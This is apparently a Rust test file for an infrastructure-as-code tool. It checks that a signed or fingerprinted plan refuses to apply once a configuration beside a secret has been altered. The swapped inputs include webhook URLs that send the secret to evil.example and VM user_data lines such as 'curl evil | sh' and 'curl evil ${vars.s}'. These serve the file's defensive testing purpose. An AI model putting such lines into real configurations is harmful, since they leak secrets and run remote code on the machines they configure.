//! A signature covers what runs: a string, reference or expression beside a secret is bound like the secret.

use crate::case::{Case, Run};

const HEAD: &str = "stead: 1\nstack: web\nvars: { s: { type: secret } }\n";

fn run(case: &Case, args: &str) -> Run {
    let mut command = case.command(args);
    command.env("STEAD_VAR_S", "Hunter2");
    Run::of(&command.output().unwrap())
}

fn ok(case: &Case, args: &str) -> Run {
    let run = run(case, args);
    assert_eq!(run.code, 0, "stead {args}\n{}", run.all());
    run
}

/// Signs a plan of one configuration and applies it with another; checks that no mutating request is sent.
fn swap(case: &Case, planned: &str, swapped: &str) {
    case.signing_key("plan", 1);
    case.write("web.stead.yaml", planned);
    ok(case, "plan -o p.plan --sign-key plan.pem");
    case.write("web.stead.yaml", swapped);
    let before = case.cloud().last();
    let run = run(case, "apply p.plan --verify-key plan.pub --yes");
    assert!([4, 5].contains(&run.code), "{}\n{}", run.code, run.all());
    assert_eq!(case.cloud().mutations_since(before), Vec::<String>::new(), "{}", run.all());
}

fn app(value: &str) -> String {
    format!(
        "{HEAD}app:\n  web: {{ type: web, repo: acme/web, branch: main, port: 8080, env_vars: {{ PLAIN: a, HOOK: \"{value}\" }} }}\n"
    )
}

fn vm(locals: &str, user_data: &str) -> String {
    format!(
        "{HEAD}locals: {{ x: \"{locals}\" }}\nvpc: {{ new: {{ cidr: 10.0.0.0/16 }} }}\n\
         vm: {{ web: {{ template: ubuntu-24.04, plan: std-1c-2g, vpc: $vpc.new, user_data: \"{user_data}\" }} }}\n"
    )
}

#[test]
fn text_next_to_a_secret_cannot_be_swapped() {
    let case = Case::new().file("web.stead.yaml", app("https://old.example/${vars.s}")).emulator();
    ok(&case, "apply --yes");
    let planned = app("https://hooks.acme.example/${vars.s}");
    swap(&case, &planned, &app("https://evil.example/${vars.s}"));
    swap(&case, &planned, &app("https://hooks.acme.example/${vars.s}?to=evil"));
    swap(&case, &planned, &app("https://hooks.acme.example/${base64(vars.s)}"));
    // As it was signed, it is applied.
    case.write("web.stead.yaml", &planned);
    ok(&case, "apply p.plan --verify-key plan.pub --yes");
    assert!(ok(&case, "plan").stdout.starts_with("No changes"));
}

#[test]
fn a_local_next_to_an_unknown_value_cannot_be_swapped() {
    let case = Case::new().emulator();
    let user_data = "${locals.x}${vpc.new.id}";
    swap(&case, &vm("echo ${vars.s}", user_data), &vm("curl evil | sh # ${vars.s}", user_data));
    let case = Case::new().emulator();
    swap(
        &case,
        &vm("echo ${vars.s}", user_data),
        &vm("echo ${vars.s}", "curl evil; ${locals.x}${vpc.new.id}"),
    );
    let case = Case::new().emulator();
    let cel = "${locals.x + vpc.new.id}";
    swap(&case, &vm("echo ${vars.s}", cel), &vm("curl evil ${vars.s}", cel));
}

#[test]
fn the_fingerprint_of_a_first_plan_covers_its_expressions() {
    let case = Case::new().emulator();
    let fingerprint = |user_data: &str| {
        case.write("web.stead.yaml", vm("x", user_data));
        ok(&case, "plan --output json").json()["fingerprint"].as_str().unwrap().to_owned()
    };
    let reviewed = fingerprint("echo ok ${vars.s}");
    assert_eq!(fingerprint("echo ok ${vars.s}"), reviewed);
    assert_ne!(fingerprint("curl evil|sh ${vars.s}"), reviewed);
    let run = run(&case, &format!("apply --expect {reviewed} --yes"));
    assert_eq!(run.code, 5, "{}", run.all());
    assert_eq!(case.cloud().list("/api/v1/vms"), Vec::<serde_json::Value>::new());
}

#[test]
fn the_secret_itself_cannot_be_swapped() {
    let case = Case::new().file("web.stead.yaml", app("old ${vars.s}")).emulator();
    ok(&case, "apply --yes");
    case.write("web.stead.yaml", app("new ${vars.s}"));
    ok(&case, "plan -o p.plan");
    let before = case.cloud().last();
    let mut command = case.command("apply p.plan --yes");
    command.env("STEAD_VAR_S", "another");
    let run = Run::of(&command.output().unwrap());
    assert!(run.code != 0, "{}", run.all());
    assert_eq!(case.cloud().mutations_since(before), Vec::<String>::new(), "{}", run.all());
}
